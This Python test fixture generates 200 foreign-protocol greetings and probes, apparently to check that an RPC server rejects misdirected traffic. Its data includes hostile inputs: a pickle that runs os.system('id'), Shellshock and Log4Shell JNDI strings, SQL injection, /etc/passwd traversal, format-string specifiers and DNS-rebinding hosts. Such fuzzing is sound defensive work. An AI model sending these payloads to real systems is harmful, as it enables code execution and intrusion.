"""What people, browsers and scanners say to a port that is not what they take it for.

200 greetings of other protocols, each of at least 8 bytes, and none of them a beginning of ours.
"""

from __future__ import annotations

import random
import ssl
from itertools import product

MAGIC = b"\x89RPCNB\r\n"
HOSTS = (
    "127.0.0.1",
    "localhost:9090",
    "[::1]:9090",
    "0.0.0.0:9090",
    "evil.example",
    "7f000001.rebind.example:9090",
    "127.0.0.1.evil.example",
    "lab@evil.example",
)
"""Whom a page may take us for, by rebinding a name to this machine among other ways."""


def http() -> dict[str, bytes]:
    """Return requests of browsers and tools: a page cannot choose the first bytes."""
    found = {
        f"{method} for {host}": f"{method} / HTTP/1.1\r\nHost: {host}\r\n"
        f"Origin: http://{host}\r\nContent-Length: 8\r\n\r\n".encode()
        + MAGIC
        for method, host in product(("GET", "POST", "PUT", "DELETE", "OPTIONS", "HEAD"), HOSTS)
    }
    for version, host in product((8, 13), HOSTS):
        found[f"websocket {version} of {host}"] = (
            f"GET /api HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            f"Sec-WebSocket-Version: {version}\r\nSec-WebSocket-Key: eA==\r\n\r\n"
        ).encode()
    return found | {
        "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
        "HTTP/2 upgrade": b"GET / HTTP/1.1\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA\r\n\r\n",
        "HTTP/0.9": b"GET /\r\n\r\n",
        "HTTP proxy": b"CONNECT 127.0.0.1:9090 HTTP/1.1\r\n\r\n",
        "absolute form": b"GET http://127.0.0.1:9090/ HTTP/1.1\r\n\r\n",
        "many lines": b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 500 + b"\r\n",
        "response": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        "trace": b"TRACE / HTTP/1.1\r\n\r\n",
        "empty lines first": b"\r\n\r\nGET / HTTP/1.1\r\n\r\n",
        "small letters": b"get / http/1.1\r\n\r\n",
    }


def tls() -> dict[str, bytes]:
    """Return the first words of TLS, as OpenSSL says them, and of what was before."""
    found = {}
    versions = {"1.2": ssl.TLSVersion.TLSv1_2, "1.3": ssl.TLSVersion.TLSv1_3}
    protocols = ([], ["http/1.1"], ["h2", "http/1.1"], ["x-amzn-mqtt-ca"])
    for (name, version), host, offered in product(versions.items(), HOSTS[:2], protocols):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = context.maximum_version = version
        if offered:
            context.set_alpn_protocols(offered)
        said = ssl.MemoryBIO()
        hello = context.wrap_bio(ssl.MemoryBIO(), said, server_hostname=host.partition(":")[0])
        try:
            hello.do_handshake()
        except ssl.SSLWantReadError:
            found[f"TLS {name} {host} {offered}"] = said.read()
    found["SSL 3"] = b"\x16\x03\x00\x00\x2d\x01\x00\x00\x29\x03\x00" + bytes(39)
    found["SSL 2"] = b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + bytes(37)
    found["heartbeat"] = b"\x18\x03\x02\x00\x03\x01\x40\x00"
    found["alert"] = b"\x15\x03\x03\x00\x02\x02\x28\0"
    return found


LINES = (
    *(f"SSH-{v}" for v in ("2.0-OpenSSH_9.2p1", "1.99-Cisco-1.25", "1.5-x", "2.0-libssh_0.9")),
    *("SSH-2.0-Go", "SSH-2.0-paramiko_3.4", "EHLO evil.example", "HELO evil.example"),
    *("USER anonymous", "QUIT now", "A1 LOGIN a b", "A1 CAPABILITY", "CAPA all", "STAT all"),
    *("NICK x\r\nUSER x 0 * :x", "RFB 003.008", "RFB 003.889", "PING\r\nINFO", "AUTH password"),
    *("EVAL 'return 1' 0", "CONFIG GET *", "stats items", "version all", "get key1 key2"),
    *("set a 0 0 1\r\nx", "ruok\r\nstat", "envi\r\ndump", "JDWP-Handshake", "JRMI\0\x02K"),
    *("git-upload-pack /a", "@RSYNCD: 31.0", "<?xml version='1.0'?>", "<stream:stream to='x'>"),
    *("OPTIONS sip:x SIP/2.0", "DESCRIBE rtsp://x/ RTSP/1.0", "SETUP rtsp://x RTSP/1.0"),
    *("PROXY TCP4 127.0.0.1 127.0.0.1 1 2", "PROXY UNKNOWN", "CNXN\0\0\0\x01\0\0\x10\0"),
    *("stats;\r\nhelp;", "LIST all", "finger root", "\x00\x00\x00\x05hello", "{}{}{}{}"),
    *('{"jsonrpc": "2.0", "id": 1, "method": "x"}', "--config /etc/passwd", "import os; 1"),
    *("' OR 1=1 --", "() { :;}; id", "${jndi:ldap://x/a}", "../../../etc/passwd", "%s%n%x%p%s%n"),
)
"""Of protocols that speak in lines, and of who tries what people write by mistake."""

BINARY = {
    "SMB 1": b"\0\0\0\x2f\xffSMBr\0\0\0\0\x18\x01" + bytes(34),
    "SMB 2": b"\0\0\0\x40\xfeSMB\x40\0" + bytes(58),
    "RDP": b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",
    "MySQL": b"\x20\0\0\x01\x85\xa6\x0f\0\0\0\0\x01\x21" + bytes(23),
    "PostgreSQL": b"\0\0\0\x14\0\x03\0\0user\0root\0\0",
    "PostgreSQL over TLS": b"\0\0\0\x08\x04\xd2\x16\x2f",
    "PostgreSQL cancel": b"\0\0\0\x10\x04\xd2\x16\x2e" + bytes(8),
    "MongoDB": b"\x3a\0\0\0\x01\0\0\0\0\0\0\0\xd4\x07\0\0" + bytes(42),
    "Redis": b"*1\r\n$4\r\nPING\r\n",
    "memcached": b"\x80\x0b" + bytes(22),
    "AMQP": b"AMQP\0\0\x09\x01",
    "MQTT": b"\x10\x0e\0\x04MQTT\x04\x02\0\x3c\0\x02me",
    "Kafka": b"\0\0\0\x14\0\x12\0\0\0\0\0\x01\0\x04test" + bytes(6),
    "Cassandra": b"\x04\0\0\0\x05\0\0\0\0",
    "DNS": b"\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03",
    "LDAP": b"0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0",
    "Kerberos": b"\0\0\0\x10\x6a\x0e\x30\x0c\xa1\x03\x02\x01\x05\xa2\x03\x02\x01\x0a\xa4\0",
    "NFS": b"\x80\0\0\x28" + bytes(8) + b"\0\0\0\x02\0\x01\x86\xa3" + bytes(24),
    "DCE/RPC": b"\x05\0\x0b\x03\x10\0\0\0\x48\0\0\0" + bytes(60),
    "BGP": b"\xff" * 16 + b"\0\x1d\x01\x04" + bytes(9),
    "SOCKS 4": b"\x04\x01\0\x50\x7f\0\0\x01x\0",
    "SOCKS 5": b"\x05\x03\0\x01\x02\0\0\0",
    "telnet": b"\xff\xfd\x03\xff\xfb\x18\xff\xfb",
    "X11": b"l\0\x0b\0\0\0\0\0\0\0\0\0",
    "PROXY 2": b"\r\n\r\n\0\r\nQUIT\n!\x11\0\x0c" + bytes(12),
    "ZeroMQ": b"\xff" + bytes(8) + b"\x7f\x03\0CURVE" + bytes(15) + b"\0" + bytes(31),
    "Pyro": b"PYRO\x01\xf6\x01\0" + bytes(32),
    "RPyC": b"\0\0\0\x0c\0\x01\x01\x14\x01\0" + bytes(8),
    "dask": (2).to_bytes(8, "little") + bytes(24),
    "pickle": b"\x80\x05\x95\x19\0\0\0\0\0\0\0cos\nsystem\n(S'id'\ntR.",
    "Java's pickle": b"\xac\xed\0\x05sr\0\x11java.util.HashMap",
    ".NET remoting": b".NET\x01\0\0\0\0\0\x10\0\0\0",
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0",
    "PNG": b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR",
    "zip": b"PK\x03\x04\x14\0\0\0\x08\0",
    "ELF": b"\x7fELF\x02\x01\x01\0" + bytes(8),
    "msgpack": b"\x93\x01\xa4echo\x91\x01",
    "UTF-16": "GET / HTTP/1.1".encode("utf-16"),
    "zeros": bytes(64),
    "ones": b"\xff" * 64,
    "ours in text mode": MAGIC.replace(b"\r\n", b"\n") + bytes(64),
    "ours in small letters": MAGIC.lower() + bytes(64),
    "ours with seven bits": bytes([MAGIC[0] & 0x7F]) + MAGIC[1:] + bytes(64),
    "ours behind something": b"\0" + MAGIC + bytes(64),
    "ours backwards": MAGIC[::-1] + bytes(64),
}

FILL = 200


def greetings() -> dict[str, bytes]:
    """Return all of them by name, and noise for the rest of the 200."""
    found = http() | tls() | {line: f"{line}\r\n".encode() for line in LINES} | BINARY
    numbers = random.Random(11)
    while len(found) < FILL:
        found[f"noise {len(found)}"] = bytes(numbers.randrange(128)) + numbers.randbytes(64)
    return found


GREETINGS = greetings()
